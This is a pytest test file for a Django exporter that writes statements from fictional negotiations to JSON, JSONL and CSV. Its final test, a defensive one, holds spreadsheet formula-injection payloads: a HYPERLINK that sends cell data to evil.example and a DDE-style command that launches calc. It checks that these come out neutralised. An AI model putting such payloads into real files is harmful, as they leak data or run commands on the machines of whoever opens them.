import csv
import io
import json
from datetime import date

import pytest

from negotiations.models import Statement, StatementAnnotation
from negotiations.services.export import FIELDS, export_statements
from tests.helpers import annotate, make_article, make_negotiation, make_statement

FORMATS_DOC_KEYS = {
    "id",
    "article_url",
    "article_title",
    "speaker",
    "party",
    "anonymous",
    "said_on",
    "kind",
    "text",
    "cue",
    "issues",
    "start",
    "end",
    "annotated",
    "stance",
    "target",
    "proposal",
}
TEXT = (
    'Ilse Varga said: "We need more water in August." '
    "Sudmark officials, speaking on condition of anonymity, said the dam would be finished."
)


def export(negotiation, fmt: str) -> list[dict]:
    """Export and parse back, so every format is checked the way a reader would read it."""
    out = io.StringIO()
    count = export_statements(negotiation, fmt, out)
    text = out.getvalue()
    if fmt == "json":
        rows = json.loads(text)
    elif fmt == "jsonl":
        rows = [json.loads(line) for line in text.splitlines()]
    else:
        rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert count == len(rows)
    return rows


@pytest.fixture
def article(negotiation):
    return make_article(
        negotiation,
        text=TEXT,
        url="https://river.example/talks",
        external_id="gazette-2025-04-02",
        published=date(2025, 4, 2),
    )


@pytest.fixture
def quote(article):
    return make_statement(
        article,
        "We need more water in August.",
        speaker="Ilse Varga",
        party="Norland",
        actor="Ilse Varga",
        said_on=date(2025, 4, 1),
        issues=("Dry-season flow",),
        confidence=0.9,
        stance="demands",
        target="Dry-season flow",
        proposal="Commission flow formula",
    )


@pytest.fixture
def reported(article):
    return make_statement(
        article,
        "the dam would be finished",
        speaker="Sudmark officials",
        party="Sudmark",
        kind=Statement.Kind.INDIRECT,
        anonymous=True,
        issues=("Kell dam", "Dry-season flow"),
    )


@pytest.mark.django_db
def test_json_carries_every_key_with_the_extractor_values(negotiation, quote, reported):
    rows = export(negotiation, "json")

    assert [row["id"] for row in rows] == [quote.pk, reported.pk]
    assert set(rows[0]) >= FORMATS_DOC_KEYS
    assert list(rows[0]) == list(FIELDS)
    assert rows[0] == {
        "id": quote.pk,
        "article_url": "https://river.example/talks",
        "article_title": "Talks on the Arven resume",
        "article_id": "gazette-2025-04-02",
        "speaker": "Ilse Varga",
        "party": "Norland",
        "actor": "Ilse Varga",
        "anonymous": False,
        "said_on": "2025-04-01",
        "kind": "direct",
        "text": "We need more water in August.",
        "cue": "said",
        "rule": "clause",
        "issues": ["Dry-season flow"],
        "start": TEXT.index("We need"),
        "end": TEXT.index("We need") + len("We need more water in August."),
        "annotated": False,
        "status": "unreviewed",
        "note": "",
        "confidence": 0.9,
        "stance": "demands",
        "target": "Dry-season flow",
        "proposal": "Commission flow formula",
        "stance_confidence": 0.9,
    }
    # Issues in the setup's order, not the order they were linked in.
    assert (rows[1]["issues"], rows[1]["said_on"], rows[1]["anonymous"]) == (
        ["Dry-season flow", "Kell dam"],
        None,
        True,
    )
    assert TEXT[rows[1]["start"] : rows[1]["end"]] == rows[1]["text"]


@pytest.mark.django_db
def test_jsonl_is_one_object_a_line_with_the_same_content_as_json(negotiation, quote, reported):
    assert export(negotiation, "jsonl") == export(negotiation, "json")


@pytest.mark.django_db
def test_csv_has_every_key_as_a_column_and_flat_values(negotiation, quote, reported):
    rows = export(negotiation, "csv")

    assert list(rows[0]) == list(FIELDS)
    assert rows[1]["issues"] == "Dry-season flow; Kell dam"
    assert (rows[1]["said_on"], rows[1]["actor"], rows[1]["target"]) == ("", "", "")
    assert (rows[0]["anonymous"], rows[1]["anonymous"]) == ("false", "true")
    assert (rows[0]["start"], rows[0]["id"]) == (str(quote.start), str(quote.pk))


@pytest.mark.django_db
def test_hand_corrections_win_over_the_extractor(negotiation, quote, reported):
    annotate(
        quote,
        status=StatementAnnotation.Status.UNREVIEWED,
        party="Sudmark",
        said_on=None,
        issues=("Kell dam", "Data sharing"),
        speaker="Minister Varga",
        kind=Statement.Kind.INDIRECT,
        note="party was wrong",
    )

    row = export(negotiation, "json")[0]

    assert (row["party"], row["said_on"], row["issues"]) == ("Sudmark", None, ["Kell dam", "Data sharing"])
    assert (row["speaker"], row["kind"], row["note"]) == ("Minister Varga", "indirect", "party was wrong")
    # A person cannot change the span yet.
    assert row["text"] == quote.text
    assert row["annotated"] is True  # corrected, even though nobody pressed "confirm"


@pytest.mark.django_db
def test_rejected_statements_are_left_out(negotiation, quote, reported):
    annotate(reported, status=StatementAnnotation.Status.REJECTED)

    assert [row["id"] for row in export(negotiation, "json")] == [quote.pk]
    assert [row["id"] for row in export(negotiation, "csv")] == [str(quote.pk)]


@pytest.mark.django_db
def test_annotated_is_true_for_confirmed_and_corrected_only(negotiation, article, quote, reported):
    untouched = make_statement(article, "Ilse Varga", speaker="?")
    annotate(quote, status=StatementAnnotation.Status.CONFIRMED)
    annotate(reported, anonymous=False)
    annotate(untouched, note="look again later")

    rows = {row["id"]: row for row in export(negotiation, "json")}

    assert (rows[quote.pk]["annotated"], rows[quote.pk]["status"]) == (True, "confirmed")
    assert (rows[reported.pk]["annotated"], rows[reported.pk]["anonymous"]) == (True, False)
    assert (rows[untouched.pk]["annotated"], rows[untouched.pk]["note"]) == (False, "look again later")


@pytest.mark.django_db
def test_order_is_article_date_then_article_then_position(negotiation):
    later = make_article(negotiation, title="Later", text="B said x. B said y.", published=date(2025, 5, 1))
    undated = make_article(negotiation, title="Undated", text="C said z.", published=None)
    earlier = make_article(negotiation, title="Earlier", text="A said w.", published=date(2025, 1, 1))
    same_day = make_article(negotiation, title="Same day", text="D said v.", published=date(2025, 5, 1))
    y = make_statement(later, "y")
    x = make_statement(later, "x")
    z = make_statement(undated, "z")
    w = make_statement(earlier, "w")
    v = make_statement(same_day, "v")

    assert [row["id"] for row in export(negotiation, "json")] == [w.pk, x.pk, y.pk, v.pk, z.pk]


@pytest.mark.django_db
def test_only_the_negotiations_statements_are_exported(negotiation, quote):
    other = make_negotiation(slug="other-talks")
    make_statement(make_article(other, text="E said u."), "u")

    assert [row["id"] for row in export(negotiation, "json")] == [quote.pk]
    assert export(make_negotiation(slug="empty", with_setup=False), "json") == []


@pytest.mark.django_db
def test_the_query_count_does_not_grow_with_the_statements(negotiation, article, quote, django_assert_num_queries):
    annotate(quote, party="Sudmark", issues=("Kell dam",))
    # Statements and the issues readers see (stored, whether or not a person set them).
    with django_assert_num_queries(2):
        export_statements(negotiation, "json", io.StringIO())

    for number in range(3):
        other = make_article(negotiation, title=f"Day {number}", text=f"Ilse Varga said: We agree {number}.")
        statement = make_statement(
            other, f"We agree {number}.", actor="Ilse Varga", party="Norland", issues=("Data sharing", "Kell dam")
        )
        annotate(statement, party="River Commission", issues=("Dry-season flow",))
        make_statement(other, "Ilse Varga", party="Sudmark", issues=("Kell dam",))
    with django_assert_num_queries(2):
        assert export_statements(negotiation, "csv", io.StringIO()) == 7


@pytest.mark.django_db
def test_an_unknown_format_is_refused(negotiation):
    with pytest.raises(ValueError, match="unknown format 'xml'"):
        export_statements(negotiation, "xml", io.StringIO())


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_run_as_a_formula_are_quoted_with_an_apostrophe(negotiation, start):
    # Article text and people's words are untrusted: '=HYPERLINK("http://evil", "x")' opened in
    # a spreadsheet is a formula, "'=HYPERLINK(...)" is text.
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1, "click")'
    article = make_article(negotiation, title=f"{start}1+1", text=f"Varga said: {formula}", url=None)
    statement = make_statement(article, formula, speaker="Ilse Varga")
    annotate(statement, note=f"{start}cmd|' /C calc'!A0", speaker=f"{start}SUM(A1:A9)")

    (row,) = export(negotiation, "csv")

    assert row["text"] == f"'{formula}"
    assert row["article_title"] == f"'{start}1+1"
    assert row["note"] == f"'{start}cmd|' /C calc'!A0"
    assert row["speaker"] == f"'{start}SUM(A1:A9)"
    # Numbers stay numbers and the JSON keeps the text as it is.
    assert row["start"] == str(statement.start)
    assert export(negotiation, "json")[0]["text"] == formula
